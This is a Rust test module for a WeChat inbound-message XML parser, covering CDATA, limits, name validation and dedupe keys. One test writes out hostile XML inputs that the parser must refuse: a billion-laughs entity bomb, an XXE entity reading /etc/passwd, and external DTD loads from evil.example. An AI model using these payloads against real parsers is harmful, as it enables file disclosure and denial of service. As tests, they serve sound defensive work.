        assert!(matches!(
            Inbound::parse(b"<xml/><xml/>").unwrap_err(),
            XmlError::Malformed(_)
        ));
        assert_eq!(
            Inbound::parse(b"<?php x?><xml/>").unwrap_err(),
            XmlError::ProcessingInstruction
        );
        assert_eq!(
            Inbound::parse(b"<xml></xml>").unwrap_err(),
            XmlError::Missing("ToUserName")
        );
    }

    const HEAD: &str =
        "<ToUserName>gh</ToUserName><FromUserName>o1</FromUserName><CreateTime>9</CreateTime>";

    #[test]
    fn entity_expansion_attacks_are_refused_before_expansion() {
        // Billion laughs: nested internal entities.
        let laughs = br#"<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<xml><ToUserName>&lol4;</ToUserName></xml>"#;
        assert_eq!(Document::parse(laughs).unwrap_err(), XmlError::Doctype);
        // External entity (XXE) and an external parameter entity.
        let xxe = br#"<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><xml><A>&xxe;</A></xml>"#;
        assert_eq!(Document::parse(xxe).unwrap_err(), XmlError::Doctype);
        let param =
            br#"<!DOCTYPE xml [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><xml/>"#;
        assert_eq!(Document::parse(param).unwrap_err(), XmlError::Doctype);
        let public = br#"<!DOCTYPE xml PUBLIC "-//X//EN" "http://evil.example/x.dtd"><xml/>"#;
        assert_eq!(Document::parse(public).unwrap_err(), XmlError::Doctype);
        // A DOCTYPE anywhere, not only before the root.
        assert_eq!(
            Document::parse(b"<xml><A>1</A></xml><!DOCTYPE x>").unwrap_err(),
            XmlError::Doctype
        );
        // Without a DOCTYPE an entity is undeclared, in text and inside CDATA-free values alike.
        assert_eq!(
            Document::parse(b"<xml><A>x&xxe;y</A></xml>").unwrap_err(),
            XmlError::Entity("xxe".into())
        );
        // Character references that name no XML character.
        for bad in ["&#0;", "&#xD800;", "&#x110000;", "&#xZZ;"] {
            let xml = format!("<xml><A>{bad}</A></xml>");
            assert!(
                matches!(Document::parse(xml.as_bytes()), Err(XmlError::Malformed(_))),
                "{bad}"
            );
        }
        // Entities inside CDATA are plain text and never resolved.
        let doc = Document::parse(b"<xml><A><![CDATA[&xxe;&amp;]]></A></xml>").unwrap();
        assert_eq!(doc.root().get("A"), Some("&xxe;&amp;"));
    }

    #[test]
    fn cdata_is_unwrapped_and_split_sections_join() {
        // `]]>` can only travel split over two sections: they join into one value.
        let doc =
            Document::parse(b"<xml><A><![CDATA[a]]]]><![CDATA[>b]]></A><B><![CDATA[]]></B></xml>")
                .unwrap();
        assert_eq!(doc.root().get("A"), Some("a]]>b"));
        assert_eq!(
            doc.flatten(),
            vec![("A".into(), "a]]>b".into()), ("B".into(), String::new())]
        );
        // CDATA and text and references mix in one element; markup inside CDATA stays text.
        let doc = Document::parse(b"<xml><A>x&lt;<![CDATA[<b>&</b>]]>&#x41;</A></xml>").unwrap();
        assert_eq!(doc.root().get("A"), Some("x<<b>&</b>A"));
        // An unterminated section is malformed, not truncated.
        assert!(matches!(
            Document::parse(b"<xml><A><![CDATA[a</A></xml>"),
            Err(XmlError::Malformed(_))
        ));
        // CRLF in text and CDATA is normalised to LF, as XML requires.
        let doc = Document::parse(b"<xml><A>a\r\nb</A><B><![CDATA[c\r\nd]]></B></xml>").unwrap();
        assert_eq!(doc.root().get("A"), Some("a\nb"));
        assert_eq!(doc.root().get("B"), Some("c\nd"));
    }

    #[test]
    fn limits_count_empty_elements_and_late_declarations() {
        // `<z/>` nests as deep as `<z></z>`: the depth limit holds for both.
        for inner in ["<z/>", "<z></z>"] {
            let ok = format!(
                "<xml>{}{inner}{}</xml>",
                "<a>".repeat(MAX_DEPTH - 2),
                "</a>".repeat(MAX_DEPTH - 2)
            );
            assert!(
                Document::parse(ok.as_bytes()).is_ok(),
                "{inner} at depth {MAX_DEPTH}"
            );
            let deep = format!(
                "<xml>{}{inner}{}</xml>",
                "<a>".repeat(MAX_DEPTH - 1),
                "</a>".repeat(MAX_DEPTH - 1)
            );
            assert_eq!(
                Document::parse(deep.as_bytes()).unwrap_err(),
                XmlError::TooDeep,
                "{inner}"
            );
        }
        // Exactly MAX_ELEMENTS is accepted; one more is not.
        let full = format!("<xml>{}</xml>", "<a/>".repeat(MAX_ELEMENTS - 1));
        assert!(Document::parse(full.as_bytes()).is_ok());
        assert!(matches!(
            Document::parse(b"<xml><A>1</A></xml><?xml version=\"1.0\"?>"),
            Err(XmlError::Malformed(_))
        ));
        assert!(Document::parse(b"<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<xml/>").is_ok());
        assert_eq!(
            Document::parse(b"<xml><?x y?></xml>").unwrap_err(),
            XmlError::ProcessingInstruction
        );
        assert!(matches!(
            Document::parse(b"<xml/>text"),
            Err(XmlError::Malformed(_))
        ));
        assert!(matches!(
            Document::parse(b"<xml><A>\xff</A></xml>"),
            Err(XmlError::Malformed(_))
        ));
        assert!(matches!(Document::parse(b""), Err(XmlError::Malformed(_))));
    }

    #[test]
    fn names_that_would_make_ambiguous_paths_are_rejected() {
        // Found by `cargo fuzz run inbound_xml` (fuzz/regressions/inbound_xml/): an element
        // with an empty name flattened its child to the same path as the root's `B`.
        for xml in [
            &b"<xml><><B/></><B/></xml>"[..],
            b"<xml><a><b/></a><a/b/></xml>",
            b"<xml><a/><a/><a[0]/></xml>",
            b"<xml><a]/></xml>",
            b"<xml><\x01B/></xml>",
            b"<xml><1a/></xml>",
            b"<xml><-a/></xml>",
        ] {
            assert_eq!(
                Document::parse(xml).unwrap_err(),
                XmlError::Malformed("element name is not an XML name".into()),
                "{}",
                String::from_utf8_lossy(xml)
            );
        }
        // Real names: letters, digits, `_`, `-`, `.`, `:` and non-ASCII letters.
        let doc = Document::parse(
            "<xml><Location_X>1</Location_X><a-b.c>2</a-b.c><x:y>3</x:y><名>4</名></xml>"
                .as_bytes(),
        )
        .unwrap();
        let paths: Vec<String> = doc.flatten().into_iter().map(|(k, _)| k).collect();
        assert_eq!(paths, ["Location_X", "a-b.c", "x:y", "名"]);
    }

    #[test]
    fn flatten_indexes_repeats_in_linear_time() {
        // Many same-named siblings: every one indexed, in order (this was quadratic).
        let many = format!("<xml>{}</xml>", "<a>v</a>".repeat(MAX_ELEMENTS - 1));
        let flat = Document::parse(many.as_bytes()).unwrap().flatten();
        assert_eq!(flat.len(), MAX_ELEMENTS - 1);
        assert_eq!(flat[0].0, "a[0]");
        assert_eq!(flat[MAX_ELEMENTS - 2].0, format!("a[{}]", MAX_ELEMENTS - 2));
        // Repeats interleaved with other names keep their own count; singles get no index.
        let doc =
            Document::parse(b"<xml><L><i>1</i><n>x</n><i>2</i></L><L><i>3</i></L></xml>").unwrap();
        let flat = doc.flatten();
        let flat: Vec<(&str, &str)> = flat.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
        assert_eq!(
            flat,
            [
                ("L[0]/i[0]", "1"),
                ("L[0]/n", "x"),
                ("L[0]/i[1]", "2"),
                ("L[1]/i", "3")
            ]
        );
        // Small parents are counted by scanning, large ones with a map: both index alike.
        for pairs in [3, 40] {
            let body: String = (0..pairs)
                .map(|k| format!("<i>{k}</i><n>{k}</n>"))
                .collect();
            let doc = Document::parse(format!("<xml>{body}<s/></xml>").as_bytes()).unwrap();
            let flat = doc.flatten();
            let expected: Vec<(String, String)> = (0..pairs)
                .flat_map(|k| {
                    [
                        (format!("i[{k}]"), k.to_string()),
                        (format!("n[{k}]"), k.to_string()),
                    ]
                })
                .chain([("s".to_owned(), String::new())])
                .collect();
            assert_eq!(flat, expected, "{pairs} pairs");
        }
    }

    #[test]
    fn unknown_events_are_carried_in_fields() {
        let xml = format!(
            "<xml>{HEAD}<MsgType><![CDATA[event]]></MsgType><Event><![CDATA[user_info_modified]]></Event>\
             <UserInfo><Nick><![CDATA[a]]]]><![CDATA[>b]]></Nick><Tag>1</Tag><Tag>2</Tag></UserInfo><Empty/></xml>"
        );
        let m = Inbound::parse(xml.as_bytes()).unwrap();
        assert_eq!(m.detail, Detail::Unknown);
        assert_eq!(m.event.as_deref(), Some("user_info_modified"));
        assert_eq!(m.field("UserInfo/Nick"), Some("a]]>b"));
        assert_eq!(m.field("UserInfo/Tag[1]"), Some("2"));
        assert_eq!(m.field("Empty"), Some(""));
        assert!(
            m.dedupe_key().starts_with("event:o1:9:user_info_modified:"),
            "{}",
            m.dedupe_key()
        );
        assert_eq!(
            m.legacy_event_key().as_deref(),
            Some("event:o1:9:user_info_modified")
        );
        assert!(!m.can_reply());
        assert_eq!(
            m.subject("wechat", "wx1"),
            "wechat.wx1.event.user_info_modified"
        );
        assert_eq!(m.ce_type(), "wechat.event.user_info_modified");
        // Outside data that is no subject token stays in the payload, escaped in the subject.
        let xml = format!("<xml>{HEAD}<MsgType>event</MsgType><Event>a.b*&gt;</Event></xml>");
        let m = Inbound::parse(xml.as_bytes()).unwrap();
        assert_eq!(m.event.as_deref(), Some("a.b*>"));
        assert_eq!(m.subject("wechat", "wx1"), "wechat.wx1.event.a_b__");
        // Round trip through JSON keeps the fields and their order.
        let back: Inbound = serde_json::from_str(&serde_json::to_string(&m).unwrap()).unwrap();
        assert_eq!(back, m);
    }

    /// Distinct events of one user in one second: each must keep its own key.
    const DISTINCT_EVENT_PAIRS: &[(&str, &str)] = &[
        // Two menu clicks on different buttons.
        (
            "<Event>CLICK</Event><EventKey>V1001_A</EventKey>",
            "<Event>CLICK</Event><EventKey>V1001_B</EventKey>",
        ),
        // A subscribe-message send report: ids inside the list.
        (
            "<Event>subscribe_msg_sent_event</Event><SubscribeMsgSentEvent><List><TemplateId>t</TemplateId><MsgID>1</MsgID><ErrorCode>0</ErrorCode></List></SubscribeMsgSentEvent>",
            "<Event>subscribe_msg_sent_event</Event><SubscribeMsgSentEvent><List><TemplateId>t</TemplateId><MsgID>2</MsgID><ErrorCode>0</ErrorCode></List></SubscribeMsgSentEvent>",
        ),
        // Publish jobs.
        (
            "<Event>PUBLISHJOBFINISH</Event><PublishEventInfo><publish_id>1</publish_id><publish_status>0</publish_status></PublishEventInfo>",
            "<Event>PUBLISHJOBFINISH</Event><PublishEventInfo><publish_id>2</publish_id><publish_status>0</publish_status></PublishEventInfo>",
        ),
        (
            "<Event>PUBLISHJOBFINISH</Event><PublishID>1</PublishID>",
            "<Event>PUBLISHJOBFINISH</Event><PublishID>2</PublishID>",
        ),
        // System-sent user events name the user in OpenID.
        (
            "<Event>user_authorization_revoke</Event><OpenID>o_a</OpenID><AppID>wx1</AppID>",
            "<Event>user_authorization_revoke</Event><OpenID>o_b</OpenID><AppID>wx1</AppID>",
        ),
        (
            "<Event>user_info_modified</Event><OpenID>o_a</OpenID>",
            "<Event>user_info_modified</Event><OpenID>o_b</OpenID>",
        ),
        // Audit results of the system account.
        (
            "<Event>wxa_nickname_audit</Event><ret>2</ret><nickname>a</nickname>",
            "<Event>wxa_nickname_audit</Event><ret>3</ret><nickname>a</nickname>",
        ),
        // Job-finish reports with the same MsgID but other counts (a field differs).
        (
            "<Event>MASSSENDJOBFINISH</Event><MsgID>7</MsgID><SentCount>1</SentCount>",
            "<Event>MASSSENDJOBFINISH</Event><MsgID>7</MsgID><SentCount>2</SentCount>",
        ),
    ];

    #[test]
    fn distinct_events_in_one_second_keep_distinct_keys() {
        let key = |body: &str| {
            Inbound::parse(format!("<xml>{HEAD}<MsgType>event</MsgType>{body}</xml>").as_bytes())
                .unwrap()
                .dedupe_key()
        };
        for (a, b) in DISTINCT_EVENT_PAIRS {
            assert_ne!(key(a), key(b), "{a} / {b}");
            // WeChat's retry of the same event is the same XML: the same key, and whitespace
            // between elements does not change it.
            let spaced = a.replace("><", ">\n  <");
            assert_eq!(key(a), key(&spaced), "{a} with whitespace between elements");
        }
        // CDATA or escaped text: the same value, the same key; so is another element order.
        assert_eq!(
            key("<Event>CLICK</Event><EventKey><![CDATA[a&b]]></EventKey>"),
            key("<Event><![CDATA[CLICK]]></Event><EventKey>a&amp;b</EventKey>")
        );
        assert_eq!(
            key("<Event>CLICK</Event><EventKey>K</EventKey><X>1</X>"),
            key("<Event>CLICK</Event><X>1</X><EventKey>K</EventKey>")
        );
        // Text inside a value counts, to the byte.
        assert_ne!(
            key("<Event>CLICK</Event><EventKey>K</EventKey>"),
            key("<Event>CLICK</Event><EventKey> K</EventKey>")
        );
        // A field that differs anywhere changes the key; so does one added.
        let base = "<Event>SCAN</Event><EventKey>1</EventKey><Ticket>t</Ticket>";
        for other in [
            "<Event>SCAN</Event><EventKey>1</EventKey><Ticket>u</Ticket>",
            "<Event>SCAN</Event><EventKey>1</EventKey><Ticket>t</Ticket><Extra/>",
            "<Event>SCAN</Event><EventKey>1</EventKey>",
        ] {
            assert_ne!(key(base), key(other), "{other}");
        }
        // The key keeps its readable head.
        assert!(key(base).starts_with("event:o1:9:SCAN:"), "{}", key(base));
        // Field boundaries are part of the key: a value moved across two fields differs.
        assert_ne!(
            key("<Event>X</Event><A>ab</A><B>c</B>"),
            key("<Event>X</Event><A>a</A><B>bc</B>")
        );
    }

    #[test]
    fn typed_values_tolerate_form_but_not_garbage() {
        // Numbers in CDATA and with whitespace are read; a bad CreateTime is an error.
        let xml = format!(
            "<xml>{HEAD}<MsgType>location</MsgType><Location_X><![CDATA[ 23.1 ]]></Location_X>\
             <Location_Y>x</Location_Y><MsgID>5</MsgID></xml>"
        );
        let m = Inbound::parse(xml.as_bytes()).unwrap();
        assert!(
            matches!(m.detail, Detail::Location { latitude: Some(l), longitude: None, .. } if l == 23.1)
        );
        assert_eq!(m.dedupe_key(), "msg:o1:5", "MsgID is read like MsgId");
        let bad = b"<xml><ToUserName>gh</ToUserName><FromUserName>o</FromUserName>\
            <CreateTime>soon</CreateTime><MsgType>text</MsgType></xml>";
        assert_eq!(
            Inbound::parse(bad).unwrap_err(),
            XmlError::Invalid("CreateTime", "soon".into())
        );
        let no_event = format!("<xml>{HEAD}<MsgType>event</MsgType></xml>");
        assert_eq!(
            Inbound::parse(no_event.as_bytes()).unwrap_err(),
            XmlError::Missing("Event")
        );
        // A message without MsgId still gets a stable key.
        let xml = format!("<xml>{HEAD}<MsgType>text</MsgType><Content/></xml>");
        assert_eq!(
            Inbound::parse(xml.as_bytes()).unwrap().dedupe_key(),
            "msg:o1:9:text"
        );
    }

    #[test]
    fn encrypted_body_needs_encrypt() {
        let body = EncryptedBody::parse(
            b"<xml><ToUserName>gh</ToUserName><Encrypt> QUJD </Encrypt></xml>",
        )
        .unwrap();
        assert_eq!(
            body,
            EncryptedBody {
                to_user_name: Some("gh".into()),
                encrypt: "QUJD".into()
            }
        );
        assert_eq!(
            EncryptedBody::parse(b"<xml><Encrypt/></xml>").unwrap_err(),
            XmlError::Missing("Encrypt")
        );
        assert_eq!(
            EncryptedBody::parse(b"<!DOCTYPE x><xml/>").unwrap_err(),
            XmlError::Doctype
        );
    }

    #[test]
    fn references_and_unknown_types_are_carried() {
        let xml = b"<xml><ToUserName>gh</ToUserName><FromUserName>o1</FromUserName>\
            <CreateTime>1</CreateTime><MsgType>hologram</MsgType><Beam>a&amp;b&#x41;</Beam><MsgId>7</MsgId></xml>";
        let m = Inbound::parse(xml).unwrap();
        assert_eq!(m.detail, Detail::Unknown);
        assert_eq!(m.field("Beam"), Some("a&bA"));
        assert_eq!(m.dedupe_key(), "msg:o1:7");
        assert_eq!(m.subject("wechat", "wx1"), "wechat.wx1.message.hologram");
        assert!(m.can_reply());
    }
}
